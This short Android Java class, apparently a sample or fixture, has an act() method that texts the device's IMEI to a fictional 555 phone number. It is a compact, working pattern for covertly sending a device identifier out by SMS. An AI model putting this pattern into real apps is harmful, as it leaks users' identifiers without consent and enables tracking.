package org.corpus;

import android.telephony.SmsManager;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A text to a number that is reserved for fiction. */
public class SmsText extends Screen {
    @Override
    protected void act() throws Exception {
        SmsManager.getDefault().sendTextMessage("+12025550147", null, Owner.imei(this), null, null);
    }
}
